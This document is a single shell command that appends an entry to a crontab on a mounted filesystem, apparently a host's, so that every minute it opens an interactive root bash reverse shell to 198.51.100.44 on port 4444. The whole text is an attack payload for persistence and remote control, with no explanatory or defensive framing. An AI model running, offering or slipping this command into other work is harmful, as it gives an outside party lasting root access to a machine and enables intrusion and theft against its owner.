echo '* * * * * root /bin/bash -c "bash -i >& /dev/tcp/198.51.100.44/4444 0>&1"' >> /mnt/etc/crontab
